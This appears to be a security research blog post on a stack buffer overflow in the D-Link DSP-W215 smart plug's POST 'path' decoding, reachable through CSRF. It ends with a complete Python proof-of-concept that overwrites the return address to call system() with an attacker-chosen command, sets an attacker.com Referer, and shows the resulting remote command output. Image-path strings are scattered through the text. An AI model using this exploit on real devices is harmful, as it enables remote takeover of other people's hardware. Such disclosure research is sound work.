Hacking the DSP-W215, Again, Again, Again – /dev/ttyS0

So far, the vulnerabilities found in the DSP-W215 have only been practically exploitable from the LAN, unless someone was foolish enough to make their smart plug remotely accessible on the Internet.

The typical way for external attackers to target internal web servers, such as the one running on the DSP-W215, is through CSRF. The problem is that any web browser used for a CSRF attack will URL encode binary values, such as our return addresses, but thus far the vulnerabilities we’ve exploited don’t URL decode our data (note that the replace_special_char function exploited in the last vulnerability only URL decodes a small range of ASCII values).

The my_cgi.cgi binary, which has been our primary target for exploitation, contains a decode function which is responsible for URL decoding POST data. This function accepts only two arguments, which are a pointer to the encoded data and a pointer to a destination buffer to store the decoded data:

void decode(char *encode_buf, char *decode_buf);

The decode function simply loops through all of the bytes in encode_buf, decoding/copying them blindly into decode_buf:

The decode while loop

The decode while loopRoughly translated, the decode function reads:

void decode(char *encode_buf, char *decode_buf)
    int encoded_byte_len;
    char *encode_buf_end_ptr = encode_buf + strlen(encode_buf);

    // Loop through all bytes in encode_buf, without knowing how big decode_buf is
    while(encoded_data < encode_buf_end_ptr)
         * ...
         * Do Decoding of the next byte in encoded_data.
         * encoded_byte_len = number of bytes processed in this loop iteration (1 or 3).
         * ...

        decode_buf[0] = decoded_byte;
        encoded_data += encoded_byte_len;

If a calling function is not careful to allocate a large enough buffer to store all the decoded data, the decode_buf could beoverflowed by a large POST parameter.

There is only one place in my_cgi.cgi where the decode function is called, which is from the get_input_entries function:

Only the "path" POST parameter is decoded

Only the “path” POST parameter is decoded

We can see that the decode function isonly called if the POST parameter name is “path”, and from the memset we can infer that the decode_buf passed to the decode function is only a 0x400 byte stack buffer:

char decode_buf[0x400];

if(strcmp(entries[i]->name, "path") == 0)
    // Decode path POST value into the fixed-size decode_buf
    decode(entries[i]->value, decode_buf);
    strcpy(entries[i]->value, decode_buf);


This means that providing a POST “path” value greater than 0x400 bytes will overflow the decode_buf stack variable in the get_input_entries function. What’s more, we have no bad bytes, because the decode function will helpfully URL decode any offending bytes (NULL bytes become “%00” in our POST request, for example) before copying them to the stack.

However, we have to take care in crafting our exploit buffer such that we don’t trigger the previously described stack overflow in the replace_special_char function, which is called before get_input_entries returns.

Luckily, the data passed to replace_special_char is actually strcpy’d from decode_buf first. If we put a NULL byte near the beginning of our POST data, replace_special_char will only be passed a very small string (everything up to the first NULL byte) instead of the entire POST data that has been decoded onto the stack.

A “path” POST value greater than 1060 bytes will overflow everything in the get_input_entries stack frame up to the saved return address:

The get_input_entries stack layout

The get_input_entries stack layout

And, since we have nobad bytes, we can use the return address of 0x00405CEC that was used in previous exploits in order to call system() with a pointer to the stack ($sp+0x28):

system() call at 0x00405CEC

system() call at 0x00405CEC

Here’s some PoC code in Python that overflows the get_input_entries saved return address with the address of the call to system() at 0x00405CEC and puts a command to execute on the stack at $sp+0x28:

import sys
import urllib
import urllib2

    target = sys.argv[1]
    command = sys.argv[2]
    print "Usage: %s <target> <command>" % sys.argv[0]

url = "http://%s/common/info.cgi" % targetbuf  = "x00"               # Start with a NULL byte to prevent crashing in replace_special_chars
buf += "D" * (1060-1)       # Stack filler
buf += "x00x40x5CxEC"   # $ra, address of call to system()
buf += "E" * 0x28           # Stack filler
buf += command              # Command to execute
buf += "x00"               # NULL terminate the command, for good measure

# URL encode the path POST value
post_data = "path=" + urllib.quote_plus(buf).replace('+', '%20')

# Set a referer to show that there are no CSRF protections
headers = {'Referer' : 'http://www.attacker.com/exploit.html'}

req = urllib2.Request(url, post_data, headers)
print urllib2.urlopen(req).read()

And, of course, it works as expected:

$ ./exploit.py 'ls -l /'
drwxr-xr-x    2 1000     1000         4096 May 1609:01 bin
drwxrwxr-x    3 1000     1000         4096 May 22 18:03 dev
drwxrwxr-x    3 1000     1000         4096 Sep  3  2010 etc
drwxrwxr-x    3 1000     1000         4096 May 16 09:01 lib
drwxr-xr-x    3 1000     1000         4096 May 16 09:01 libexec
lrwxrwxrwx    1 1000     1000           11 May 17 15:20 linuxrc -> bin/busybox
drwxrwxr-x    2 1000     1000         4096 Nov 11  2008 lost+found
drwxrwxr-x    6 1000     1000         4096 May 17 15:15 mntdrwxr-xr-x    2 1000     1000         4096 May 16 09:01 mydlink
drwxrwxr-x    2 1000     1000         4096 Nov 11  2008 procdrwxrwxr-x    2 1000     1000         4096 May 17 17:23 root
drwxr-xr-x    2 1000     1000         4096 May 16 09:01 sbin
drwxrwxrwx    3 1000     1000         4096 May 24 23:26 tmp
drwxrwxr-x    7 1000     1000         4096 May 16 09:01 usr
drwxrwxr-x    3 1000     1000         4096 May 17 15:21 var
-rw-r--r--    1 1000     1000           17 May 16 09:01 version
drwxrwxr-x    6 1000     1000         4096 May22 17:15 www
Bookmarkthe permalink.

Comments are closed.